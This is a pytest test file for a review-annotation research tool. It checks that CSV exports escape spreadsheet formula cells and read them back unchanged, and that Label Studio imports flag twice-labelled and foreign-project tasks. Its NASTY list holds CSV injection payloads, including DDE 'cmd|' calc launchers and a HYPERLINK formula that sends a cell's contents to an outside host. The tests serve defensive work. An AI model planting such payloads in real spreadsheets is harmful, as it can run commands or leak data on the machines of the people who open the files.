"""Exports people open or send back (surveyalign/csvcells.py, annotation/identify.py, annotation/adjudicate.py,
evaluation/studies.py, annotation/labelstudio.py): a CSV cell a spreadsheet would run (OWASP: starting with =, +, -,
@, tab, CR) is escaped in verification.csv, disagreements.csv and the meta-eval rating sheet, and read back exactly
as written; a Label Studio export where an annotator labels a task twice, or holds a task for a review outside the
project, names both problems and leaves the Table 5 figures and disagreements.csv as they were without them."""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path

import pytest

from surveyalign.annotation.adjudicate import (
    merge_disagreements,
    read_decisions,
    write_disagreements,
)
from surveyalign.annotation.identify import (
    merge_verification,
    read_verification,
    write_verification,
)
from surveyalign.cli import main
from surveyalign.csvcells import escape_cell, is_formula, unescape_cell
from surveyalign.evaluation.studies import write_rating_sheet
from surveyalign.scoring.metaeval import read_ratings

#: What titles, LLM reasons, annotator names and rationales may hold.
NASTY = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''@twice", "plain title",
         "-1", "+2", "-0.5", "'quoted but harmless"]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_escape_rule_by_hand_and_its_inverse():
    assert escape_cell("=1+1") == "'=1+1" and escape_cell("@x") == "'@x" and escape_cell("\tx") == "'\tx"
    assert escape_cell("-1") == "-1" and escape_cell("+2") == "+2" and escape_cell("-") == "'-"  # numbers stay
    assert escape_cell("'=x") == "''=x" and escape_cell("'x") == "'x" and escape_cell(3) == 3
    for value in NASTY:
        assert not is_formula(escape_cell(value)) and unescape_cell(escape_cell(value)) == value


def test_verification_csv_has_no_formula_cell_and_reads_back_what_was_written(tmp_path):
    path = tmp_path / "verification.csv"
    rows = [{"id": f"p{i}", "source": "f1000", "title": v, "llm_reason": v, "llm_verdict": "yes", "proposed": "yes",
             "confirmed": "yes" if i % 2 else "", "substantive_reviews": "yes", "note": v} for i, v in enumerate(NASTY)]
    write_verification(path, rows)
    assert sum(is_formula(c) for c in _cells(path)) == 0
    merged, counts = merge_verification(path, [{**r, "note": ""} for r in rows])  # a re-run keeps the notes
    assert [r["note"] for r in merged] == NASTY and counts["rows_with_person_cells"] == len(NASTY)
    confirmed, _ = read_verification(path)
    assert confirmed == {f"p{i}" for i in range(len(NASTY)) if i % 2}


def test_disagreements_csv_has_no_formula_cell_and_the_third_decision_reads_back(tmp_path):
    path = tmp_path / "disagreements.csv"
    rows = [{"review_id": f"r{i}", "dimension": "readability", "labels": f"{v}=+1; b=-2", "final": "", "note": ""}
            for i, v in enumerate(NASTY)]
    write_disagreements(path, rows)
    assert sum(is_formula(c) for c in _cells(path)) == 0
    # the third person writes a decision (a spreadsheet keeps -2 a number) and a note that looks like a formula
    filled = [{**r, "final": "-2", "note": v} for r, v in zip(rows, NASTY)]
    write_disagreements(path, filled)
    assert sum(is_formula(c) for c in _cells(path)) == 0
    assert read_decisions(path) == {(f"r{i}", "readability"): -2 for i in range(len(NASTY))}
    kept, _ = merge_disagreements(path, rows)
    assert [r["note"] for r in kept] == NASTY and [r["labels"] for r in kept] == [r["labels"] for r in rows]


def test_the_rating_sheet_has_no_formula_cell_and_its_ratings_read_back(tmp_path):
    rows = [{"pair_id": f"u{i}", "dimension": "structure", "paper_id": v, "reference_rationale": v,
             "predicted_rationale": v, "rating": ""} for i, v in enumerate(NASTY)]
    path = write_rating_sheet(rows, tmp_path / "pairs.csv")
    assert sum(is_formula(c) for c in _cells(path)) == 0
    with path.open(encoding="utf-8", newline="") as fh:  # a rater fills one column named like a formula
        table = list(csv.reader(fh))
    table[0].append("'=rater")
    for i, row in enumerate(table[1:]):
        row.append(f"0.{i % 10}")
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(table)
    ratings = read_ratings(path)
    assert sorted(ratings) == sorted(f"u{i}" for i in range(len(NASTY)))
    assert ratings["u3"] == {"=rater": pytest.approx(0.3)}  # the rater's name as written, unescaped


# ---- Label Studio: a twice-labelled task and a task of another project ---------------------------------------


FIXTURE = Path(__file__).parent / "fixtures" / "label_studio" / "export_three_annotators.json"
TEXT = ("The prose is hard to read in the methods part. The structure is clear and well motivated. "
        "Important recent studies are missing from the reference list.")


def _llm(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    recs = [{"review_id": f"f1000-1-1-r{k}", "paper_id": "f1000-1", "source": "f1000", "annotator": "llm",
             "dimensions": {"readability": {"label": -1, "snippets": []}, "structure": {"label": 1, "snippets": []},
                            "comprehensiveness": {"label": -1, "snippets": []},
                            "criticalness": {"label": 0, "snippets": []}}} for k in (1, 2)]
    (folder / "annotations.jsonl").write_text("".join(json.dumps(r) + "\n" for r in recs), encoding="utf-8")
    return folder


def _agreement(tmp_path: Path, export: list, name: str) -> tuple[dict, list[list[str]]]:
    path = tmp_path / f"{name}.json"
    path.write_text(json.dumps(export), encoding="utf-8")
    out = tmp_path / name
    assert main(["data", "agreement", "--human", str(path), "--llm", str(_llm(tmp_path / "llm")), "--out", str(out),
                 "--bootstrap", "50"]) == 0
    report = json.loads((out / "agreement.json").read_text(encoding="utf-8"))
    with (out / "disagreements.csv").open(encoding="utf-8", newline="") as fh:
        return report, list(csv.reader(fh))


def test_a_twice_labelled_task_and_a_foreign_task_leave_table_5_as_it_was(tmp_path):
    export = json.loads(FIXTURE.read_text(encoding="utf-8"))
    base, base_rows = _agreement(tmp_path, export, "clean")
    assert base["import"]["duplicate_annotations"] == 0 and base["import"]["foreign_tasks"] == 0

    tampered = copy.deepcopy(export)
    again = copy.deepcopy(next(a for a in tampered[0]["annotations"] if str(a["completed_by"]) == "2"))
    again["id"] = 999
    for item in again["result"]:  # annotator 2 labels the same review again, every choice changed
        if item.get("type") == "choices":
            item["value"]["choices"] = ["+2" if item["value"]["choices"] != ["+2"] else "-3"]
    tampered[0]["annotations"].append(again)
    foreign = copy.deepcopy(tampered[1])
    foreign["id"] = 777
    foreign["data"]["review_id"] = "other-project-r9"
    tampered.append(foreign)
    report, rows = _agreement(tmp_path, tampered, "tampered")

    assert report["tables"] == base["tables"]  # Table 5 unchanged
    assert rows == base_rows  # and disagreements.csv agrees with it
    imp = report["import"]
    assert (imp["duplicate_annotations"], imp["foreign_tasks"]) == (1, 1)
    assert imp["records"] == base["import"]["records"] and imp["tasks"] == base["import"]["tasks"] + 1
    assert "f1000-1-1-r1 by 2: labelled twice (annotation 999 after" in " | ".join(imp["problems"])
    assert any("review other-project-r9 is not a review of the project" in p for p in imp["problems"])
